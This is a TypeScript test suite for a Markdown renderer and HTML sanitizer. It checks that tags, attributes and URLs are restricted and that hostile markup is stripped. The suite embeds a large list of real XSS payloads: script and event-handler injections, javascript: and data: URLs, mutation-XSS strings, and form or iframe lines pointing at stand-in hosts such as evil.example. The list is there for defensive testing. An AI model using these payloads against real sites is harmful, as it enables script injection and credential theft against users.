import fc from 'fast-check';
import { type DefaultTreeAdapterMap, parseFragment, serialize } from 'parse5';
import { renderContent } from './markup.js';
import { asText, MOST_HTML, sanitize } from './sanitize.js';

type Node = DefaultTreeAdapterMap['node'];
const html = (source: string) => renderContent(source).html;
const plain = (source: string) => renderContent(source).plain;

const TAGS = new Set(
  'a abbr b blockquote br caption cite code dd del dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strong sub sup table tbody td tfoot th thead time tr u ul var'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'a.href a.rel a.title abbr.title code.class img.alt img.height img.loading img.referrerpolicy img.src img.title img.width ol.start span.class td.align td.colspan td.rowspan th.align th.colspan th.rowspan time.datetime'.split(
    ' ',
  ),
);
const leadsSafely = (address: string) => /^(https?:\/\/[^/]|mailto:|\/(?![/\\])|#)/.test(address);

/** What a browser's parser finds in `markup` that must not be there. */
function found(markup: string): string[] {
  const wrong: string[] = [];
  const walk = (node: Node) => {
    if (node.nodeName === '#comment') wrong.push('a comment');
    if ('tagName' in node) {
      if (!TAGS.has(node.tagName) || node.namespaceURI !== 'http://www.w3.org/1999/xhtml') wrong.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        if (!ATTRIBUTES.has(`${node.tagName}.${name}`)) wrong.push(`${node.tagName} ${name}`);
        if ((name === 'href' || name === 'src') && !leadsSafely(value)) wrong.push(`${name} to ${value}`);
      }
    }
    if ('childNodes' in node) node.childNodes.forEach(walk);
  };
  walk(parseFragment(markup));
  return wrong;
}
/** A page is parsed, and what an editor copies out of it is parsed again. */
const dangers = (source: string) => {
  const once = html(source);
  const again = serialize(parseFragment(once));
  return [...found(once), ...found(again), ...found(serialize(parseFragment(again)))];
};

const SCRIPT = 'alert(1)';
const HOSTILE: Record<string, string[]> = {
  scripts: [
    `<script>${SCRIPT}</script>`,
    `<ScRiPt src=//evil.example/x.js></sCrIpT >`,
    `<script/src="data:,${SCRIPT}"></script>`,
    `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
    `<<script>${SCRIPT}//<</script>`,
    `<script\u0000>${SCRIPT}</script>`,
    `</p><script>${SCRIPT}`,
    `<SCRIPT>a=/x/\n${SCRIPT}</SCRIPT>`,
    `<template><script>${SCRIPT}</script></template>`,
  ],
  'event handlers': [
    `<img src=x onerror=${SCRIPT}>`,
    `<img src="/a.png" onload="${SCRIPT}">`,
    `<img src='/a.png'onerror='${SCRIPT}'>`,
    `<img/src=/a.png/onerror=${SCRIPT}>`,
    `<p onmouseover\n=\n"${SCRIPT}">p</p>`,
    `<details open ontoggle=${SCRIPT}>d</details>`,
    `<body onload=${SCRIPT}>`,
    `<video><source onerror="${SCRIPT}"></video>`,
    `<audio src=x onerror=${SCRIPT}>`,
    `<a autofocus tabindex=1 onfocus=${SCRIPT}>a</a>`,
    `<input onfocus=${SCRIPT} autofocus>`,
    `<marquee onstart=${SCRIPT}>m</marquee>`,
    `<b \u0000onclick=${SCRIPT}>b</b>`,
    `<b/onclick=${SCRIPT}>b</b>`,
  ],
  'javascript: in links': [
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](javascript&colon;alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](java&#x09;script:alert(1))',
    '[a](<java\tscript:alert(1)>)',
    '[a]( javascript:alert(1))',
    '[a][x]\n\n[x]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '![i](javascript:alert(1))',
    '![i](vbscript:msgbox(1))',
    '<a href="javascript:alert(1)">a</a>',
    '<a href=" &#1; javascript:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="java&Tab;script:alert(1)">a</a>',
    '<a href="java&NewLine;script&colon;alert(1)">a</a>',
    '<a href="\u0001javascript:alert(1)">a</a>',
    '<a href="jAvAsCrIpT&#58alert(1)">a</a>',
    '<a href="javascript://https://x.example/%0aalert(1)">a</a>',
    '<a href="view-source:javascript:alert(1)">a</a>',
    '<a href="feed:javascript:alert(1)">a</a>',
    '<a href="blob:https://x.example/1">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a xlink:href="javascript:alert(1)">a</a>',
    '<a href="https://user:secret@x.example/">a</a>',
    '<a href="//evil.example">a</a>',
    '<a href="/\\evil.example">a</a>',
    '<a href="/.//evil.example">a</a>',
    '<a href=x ping="https://evil.example" target=opener download>a</a>',
  ],
  'data: addresses': [
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '![i](data:image/svg+xml;base64,PHN2Zz4=)',
    '<object data="data:text/html,x"></object>',
    '<embed src="data:text/html,x">',
  ],
  'svg and math': [
    `<svg onload=${SCRIPT}>`,
    `<svg><script>${SCRIPT}</script></svg>`,
    `<svg><a xlink:href="javascript:${SCRIPT}"><text>t</text></a></svg>`,
    `<svg><animate attributeName=href values="#;javascript:${SCRIPT}"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,x#y"/></svg>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${SCRIPT}">c</maction></math>`,
    `<math href="javascript:${SCRIPT}">CLICK</math>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${SCRIPT}>">`,
  ],
  'raw text elements': [
    `<xmp><img src=x onerror=${SCRIPT}></xmp>`,
    `<xmp></xmp/><img src=x onerror=${SCRIPT}>`,
    `<textarea></textarea/><img src=x onerror=${SCRIPT}></textarea>`,
    `<title><a title="</title><img src=x onerror=${SCRIPT}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>"></noscript>`,
    `<noembed><img title="</noembed><img src=x onerror=${SCRIPT}>"></noembed>`,
    `<iframe><img title="</iframe><img src=x onerror=${SCRIPT}>"></iframe>`,
    `<plaintext><img src=x onerror=${SCRIPT}>`,
    `<option>&lt;script&gt;${SCRIPT}&lt;/script&gt;</option>`,
    `<listing>&lt;img src=x onerror=${SCRIPT}&gt;</listing>`,
  ],
  'documents, forms and styles': [
    '<iframe src="https://evil.example"></iframe>',
    `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
    `<iframe src="javascript:${SCRIPT}">`,
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>',
    `<style><!--</style><img src=x onerror=${SCRIPT}>--></style>`,
    '<p style="position:fixed;inset:0;background:url(https://evil.example)">p</p>',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
    '<a id="location" name="cookie" class="MuiButton-root">a</a>',
    '<div slot=x is=y contenteditable draggable=true>d</div>',
    `<!--[if IE]><script>${SCRIPT}</script><![endif]-->`,
    `<!--><img src=x onerror=${SCRIPT}>-->`,
    `<![CDATA[<img src=x onerror=${SCRIPT}>]]>`,
    `<?xml-stylesheet href="javascript:${SCRIPT}"?>`,
    '<img srcset="https://evil.example/x.png 1x" src="/a.png" usemap="#m">',
    '<td background="javascript:alert(1)">t</td>',
  ],
  'markup that changes when parsed again': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${SCRIPT}'>"></style></h1>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${SCRIPT}>`,
    `<svg><style><img title="</style><img src=x onerror=${SCRIPT}>"></svg>`,
    `<p><svg><desc><p><style><a title="</style><img src=x onerror=${SCRIPT}>">`,
    `<noscript><style></noscript><img src=x onerror=${SCRIPT}></style>`,
    `<table><td><b><a href="/x"><table><a href="javascript:${SCRIPT}">y`,
    `<b title="&lt;/b&gt;&lt;img src=x onerror=${SCRIPT}&gt;">b</b>`,
    `<a title="--><img src=x onerror=${SCRIPT}>">a</a>`,
    `<div title='"><img src=x onerror=${SCRIPT}>'>d</div>`,
    `\`\`\`html"><img src=x onerror=${SCRIPT}>\n<b>\n\`\`\``,
    `![a"onerror="${SCRIPT}](/a.png "t\\"onload=${SCRIPT}")`,
    `[a](https://x.example/"onmouseover="${SCRIPT})`,
    `https://x.example/"onmouseover="${SCRIPT}`,
    `<https://x.example/'><img src=x onerror=${SCRIPT}>`,
    `\`<img src=x onerror=${SCRIPT}>\``,
    `[<img src=x onerror=${SCRIPT}>](https://x.example)`,
    `| a |\n|---|\n| <img src=x onerror=${SCRIPT}> |`,
    `&lt;img src=x onerror=${SCRIPT}&gt;`,
    `<${'div><'.repeat(2000)}img src=x onerror=${SCRIPT}>`,
  ],
};

describe('the body of content', () => {
  it('R30 turns Markdown into HTML and lets HTML pass', () => {
    expect(html('# Title\n\nSome **bold** words')).toBe('<h2>Title</h2>\n<p>Some <strong>bold</strong> words</p>\n');
    expect(html('<p>Kept <em>as it is</em></p>')).toBe('<p>Kept <em>as it is</em></p>');
  });

  it('R30 keeps tables, aligned without styles, and colors code of a known language', () => {
    expect(html('| a |\n|--:|\n| 1 |')).toContain('<td align="right">1</td>');
    expect(html('```js\nconst a = 1;\n```')).toContain('<code class="language-js"><span class="hljs-keyword">const</span>');
    expect(html('```brainfuck\n<b>\n```')).toContain('&lt;b&gt;');
  });

  it('S11 gives links and images only what they need', () => {
    expect(html('[a](https://x.example/y "t")')).toBe('<p><a href="https://x.example/y" rel="noopener" title="t">a</a></p>\n');
    expect(html('[a](mailto:ann@x.example) [b](/product/1#top)')).toBe(
      '<p><a href="mailto:ann@x.example" rel="noopener">a</a> <a href="/product/1#top" rel="noopener">b</a></p>\n',
    );
    expect(html('<img src="/art/v1/x.svg" width="20" height="9e9" class="big" id="a">')).toBe(
      '<img src="/art/v1/x.svg" alt="" width="20" loading="lazy" referrerpolicy="no-referrer" />',
    );
    expect(html('see https://x.example and README.md')).toBe(
      '<p>see <a href="https://x.example/" rel="noopener">https://x.example</a> and README.md</p>\n',
    );
  });

  it('S11 an address that leads nowhere safe is left out; a picture goes with it', () => {
    for (const address of ['javascript:x', 'page', '../page', '?q=1', 'https://user:secret@x.example/', '/.//x.example', ' '])
      expect(html(`<a href="${address}">a</a>`)).toBe('<p><a>a</a></p>\n');
    for (const address of ['javascript:x', 'picture.png', 'mailto:ann@x.example', '#top', 'data:image/png;base64,AA', ''])
      expect(html(`<div><img src="${address}" alt="a"></div>`)).toBe('<div></div>');
    expect(html('<a href="#top">a</a>')).toBe('<p><a href="#top" rel="noopener">a</a></p>\n');
  });

  it('S11 nothing can pass for a part of the page around it', () => {
    for (const name of ['p', 'div', 'code', 'span', 'h2', 'li', 'table', 'img src=/a.png', 'a'])
      for (const attribute of ['id="root"', 'name="root"', 'class="MuiButton-root"', 'style="position:fixed"', 'role="alert"'])
        expect(html(`<${name} ${attribute}>x</${name}>`)).not.toMatch(/root|fixed|role/);
    expect(html('<code class="language-js MuiCode-root">x</code>')).toBe('<p><code class="language-js">x</code></p>\n');
    expect(html('<p class="hljs-keyword">x</p>')).toBe('<p>x</p>');
  });

  it('S11 what holds no prose goes with all it holds', () => {
    for (const name of ['script', 'style', 'textarea', 'xmp', 'noscript', 'iframe', 'svg', 'math', 'template', 'select', 'title'])
      expect(html(`<div>a<${name}>b</${name}>c</div>`)).toBe('<div>ac</div>');
  });

  it('S18 keeps nesting within bounds, and colors no book of code', () => {
    expect(html('<div>'.repeat(500)).match(/<div>/g)?.length).toBeLessThanOrEqual(60);
    expect(html('<b>'.repeat(6000))).toMatch(/^&lt;p&gt;&lt;b&gt;&lt;b&gt;/);
    expect(html(`\`\`\`js\n${'const a = 1;\n'.repeat(2000)}\`\`\``)).not.toContain('hljs');
  });

  for (const [group, sources] of Object.entries(HOSTILE)) {
    it.each(
      sources.map((source) => [JSON.stringify(source).slice(1, 60), source]),
    )(`S11 nothing of ${group} survives: %s`, (_, source) => {
      expect(dangers(source)).toEqual([]);
      expect(dangers(`Before\n\n${source}\n\nafter`)).toEqual([]);
      expect(dangers(`<table><tr><td>${source}`)).toEqual([]);
      expect(found(sanitize(source))).toEqual([]);
    });
  }

  it('S11 the check itself sees what it must not let pass', () => {
    expect(found(`<img src="x" onerror="${SCRIPT}">`)).toEqual(['src to x', 'img onerror']);
    expect(found(`<svg><script>${SCRIPT}</script></svg><a href="javascript:x">`)).toEqual([
      '<svg>',
      '<script>',
      'href to javascript:x',
    ]);
  });

  const fragments = fc.constantFrom(
    ...Object.values(HOSTILE).flat(),
    '<p>',
    '</p>',
    '<b>',
    '<td>',
    '"',
    "'",
    '<!--',
    '-->',
    '&amp;',
    ']]>',
  );
  const hostile = fc
    .array(fc.oneof(fragments, fc.string({ unit: 'binary', maxLength: 12 })), { maxLength: 8 })
    .map((all) => all.join(''));
  const cut = fc.tuple(hostile, fc.nat(400), fc.nat(400)).map(([text, a, b]) => text.slice(0, a) + text.slice(a + (b % 7)));

  it('S11 sanitizing what is sanitized changes nothing', () => {
    fc.assert(
      fc.property(cut, (source) => {
        const once = html(source);
        expect(sanitize(once)).toBe(once);
      }),
      { numRuns: 500 },
    );
  });

  it('S11 no mixture of hostile pieces survives', () => {
    fc.assert(
      fc.property(cut, (source) => {
        expect(dangers(source)).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it('BL-05 gives the plain words, without markup and without gluing blocks together', () => {
    expect(plain('# One\n\nTwo & <b>three</b>\n\n- four\n- five<br>six')).toBe('One Two & three four five six');
    expect(plain('a &lt;b&gt; &amp;lt; `<i>`')).toBe('a <b> &lt; <i>');
    expect(plain('<script>no</script><style>no</style>yes')).toBe('yes');
    expect(plain('![a picture](/a.png)')).toBe('');
  });

  it('S18 text made to be slow is done within the time a test has', () => {
    const slow = [
      '['.repeat(50_000),
      '*a '.repeat(20_000),
      '<div>'.repeat(10_000),
      '<b>'.repeat(75_000),
      '</b>'.repeat(1000) + '<i>'.repeat(60_000),
      '> '.repeat(25_000),
      'https://a.'.repeat(5_000),
      '<a href="'.repeat(5_000),
      '`'.repeat(50_000),
      '![['.repeat(15_000),
      `\`\`\`js\n${'/*"('.repeat(4_000)}\n\`\`\``,
      '&'.repeat(50_000),
      '<!--'.repeat(12_000),
      '|'.repeat(50_000),
    ];
    for (const source of slow) expect(found(html(source))).toEqual([]);
  }, 20_000);

  const refs = (use: string, many: number) => `[a]: /${'b'.repeat(20_000)}\n\n${use.repeat(many)}`;
  it.each([
    ['a reference used often', refs('[a]', 4000)],
    ['a picture used often', refs('![a]', 4000)],
    ['a title used often', `[a]: /x "${'b'.repeat(20_000)}"\n\n${'[a]'.repeat(4000)}`],
    ['a heading on each line', 'a\n===\n'.repeat(60_000)],
    ['tags and nothing else', '<b>a</b>'.repeat(49_000)],
    ['brackets and nothing else', '!['.repeat(190_000)],
    ['four hundred thousand quotes', '"'.repeat(400_000)],
  ])('VU-06 %s is shown as it was typed, and takes no memory', (_, source) => {
    const { html, tooLong } = renderContent(source);
    expect([tooLong, html === `<pre>${asText(source)}</pre>`]).toEqual([true, true]);
    expect(renderContent(source.slice(0, 20_100))).toMatchObject({ tooLong: false });
  });

  it('VU-06 long prose, code and tables are shown whole', () => {
    const words = 'Some words of a long page, *with* [links](/a) and `code`.\n\n'.repeat(5000);
    const code = `${'```typescript\n'}${"const a = (b: string) => 'c';\n".repeat(600)}${'```\n'}`.repeat(8);
    for (const source of [words, code, `|a|b|\n|-|-|\n${'|c|d|\n'.repeat(10_000)}`]) {
      const { html, tooLong } = renderContent(source);
      expect(tooLong).toBe(false);
      expect(html.length).toBeLessThanOrEqual(MOST_HTML);
    }
  });
});
